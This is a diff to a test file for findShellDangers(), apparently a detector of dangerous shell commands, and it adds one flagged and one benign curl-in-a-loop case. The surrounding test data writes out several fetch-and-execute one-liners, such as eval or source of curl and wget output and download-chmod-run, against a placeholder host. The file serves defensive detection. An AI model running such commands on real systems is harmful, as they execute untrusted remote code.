@@ -18,6 +18,7 @@ describe('findShellDangers()', () => {
     ['eval "$(curl https://x.io/i)"', ['fetch-run']],
     ['source <(wget -qO- https://x.io/i)', ['fetch-run']],
     ['$(curl https://x.io/i)', ['fetch-run']],
+    ['until $(curl --silent https://x.io/i); do sleep 5; done', ['fetch-run']],
     ['curl -o a.sh https://x.io/a; sh a.sh', ['fetch-run']],
     ['curl -o a https://x.io/a && chmod +x a && ./a', ['fetch-run']],
     ['wget https://x.io/a.sh\nbash ./a.sh', ['fetch-run']],
@@ -71,6 +72,7 @@ describe('findShellDangers()', () => {
     'rm -rf dist',
     'nc -z localhost 80',
     'env | grep PATH',
+    'until $(curl --output /dev/null --silent https://x.io/i); do sleep 5; done',
     '# curl https://x.io | sh',
     'echo "curl https://x.io | sh"',
   ])('%j has none', (text) => {
